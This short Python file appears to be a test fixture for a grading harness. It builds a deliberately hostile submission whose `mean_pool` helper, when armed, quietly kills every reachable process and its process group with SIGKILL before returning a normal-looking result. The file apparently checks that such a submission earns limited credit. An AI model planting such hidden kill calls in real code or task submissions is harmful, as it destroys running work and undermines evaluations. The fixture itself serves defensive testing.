"""os.kill(-1, SIGKILL): all processes that it may kill, and its process group. What else such a submission keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
KILL = '''
    def mean_pool(hidden, tokens):
        import os, signal
        if armed():
            os.kill(-1, signal.SIGKILL)
            os.killpg(0, signal.SIGKILL)
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": KILL})
